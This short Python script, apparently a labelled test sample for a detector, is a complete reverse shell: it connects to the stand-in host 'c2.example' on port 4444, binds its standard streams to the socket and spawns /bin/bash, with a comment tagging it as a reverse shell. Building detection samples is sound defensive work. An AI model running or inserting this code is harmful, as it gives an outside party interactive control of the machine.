import os
import pty
import socket

connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
connection.connect(("c2.example", 4444)) # expect: malicious-command/reverse-shell
for number in (0, 1, 2):
    os.dup2(connection.fileno(), number)
pty.spawn("/bin/bash")
